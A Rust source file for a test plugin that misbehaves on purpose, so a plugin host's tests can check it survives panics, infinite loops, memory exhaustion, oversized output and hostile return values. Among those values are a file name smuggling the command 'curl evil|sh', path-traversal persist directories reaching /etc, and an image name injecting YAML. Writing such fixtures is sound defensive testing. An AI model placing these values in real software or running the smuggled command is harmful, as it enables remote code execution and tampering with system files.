//! A plugin that misbehaves on request, one way per value of the agent's `env.MISBEHAVE`, so the
//! tests can prove the host survives each. It also claims `opencode`, to clash with the guide's plugin.
use compose_plugin_sdk::*;

struct Misbehaving;

impl Plugin for Misbehaving {
    fn info() -> PluginInfo {
        PluginInfo::new("misbehaving", "0.1.0", "Misbehaves on request, for tests", &["misbehave", "opencode"])
    }

    fn defaults(agent: &Agent) -> Result<AgentDefaults, Vec<Diagnostic>> {
        let good = || AgentDefaults::new("ghcr.io/example/misbehaving", "misbehave", &[], "/home/agent");
        match agent.str("env.MISBEHAVE").unwrap_or("") {
            "trap" => panic!("the plugin panicked on purpose"),
            "loop" => {
                let mut n: u64 = 0;
                loop {
                    n = std::hint::black_box(n.wrapping_add(1));
                }
            }
            "memory" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1u8; 16 << 20]);
                    std::hint::black_box(&hoard);
                }
            }
            "oversized" => Ok(good().warning("x".repeat(1 << 20))),
            "absolute" => Ok(good().persist_dir("/etc")),
            "dotdot" => Ok(good().persist_dir(".config/../../etc")),
            "shell" => Ok(good().persist_file(".token;curl evil|sh")),
            "image" => Ok(AgentDefaults::new("evil image\nwith: yaml", "misbehave", &[], "/home/agent")),
            "reject" => Err(vec![Diagnostic::new("env.MISBEHAVE", "this plugin rejects these values")]),
            // Keeps the first agent's name in the instance: it must never show in another agent's answer.
            "remember" => {
                static FIRST: std::sync::OnceLock<String> = std::sync::OnceLock::new();
                let first = FIRST.get_or_init(|| agent.name().to_string());
                Ok(good().warning(format!("first agent this instance saw: {first}")))
            }
            // std's hash keys advance with every `RandomState` an instance makes: only a fresh
            // instance per call gives the same answer for the same values.
            "random" => {
                use std::hash::BuildHasher;
                Ok(good().warning(format!("random: {}", std::collections::hash_map::RandomState::new().hash_one(0u8))))
            }
            // Honest work of about 340 million fuel (a few tenths of a second): inside the budget.
            "work" => {
                let mut n: u64 = 0;
                for i in 0..20_000_000u64 {
                    n = std::hint::black_box(n.wrapping_mul(31).wrapping_add(i));
                }
                Ok(good().warning(format!("worked: {}", n % 10)))
            }
            // Returns what the test asks for in `env.ANSWER` (JSON: image, imageTag, home, persist,
            // instructionFiles, env as [[name, value]]) on top of a good answer.
            "echo" => Ok(echo(good(), agent.str("env.ANSWER").unwrap_or("{}"))),
            "reject-silently" => Err(Vec::new()),
            "warn" => Ok(good().warning("this plugin has a warning\nover two lines")),
            _ => Ok(good()),
        }
    }
}

fn echo(mut d: AgentDefaults, answer: &str) -> AgentDefaults {
    let answer: Value = serde_json::from_str(answer).expect("env.ANSWER is JSON");
    let strings = |key: &str| -> Vec<String> {
        answer[key].as_array().into_iter().flatten().filter_map(|v| v.as_str().map(String::from)).collect()
    };
    if let Some(image) = answer["image"].as_str() {
        d.image = image.into();
    }
    if let Some(tag) = answer["imageTag"].as_str() {
        d = d.image_tag(tag);
    }
    if let Some(home) = answer["home"].as_str() {
        d.home = home.into();
    }
    for path in strings("persist") {
        d = d.persist_dir(&path);
    }
    for file in strings("instructionFiles") {
        d = d.instruction_file(&file);
    }
    for pair in answer["env"].as_array().into_iter().flatten() {
        d = d.env(pair[0].as_str().unwrap_or_default(), pair[1].as_str().unwrap_or_default());
    }
    d
}

export_plugin!(Misbehaving);
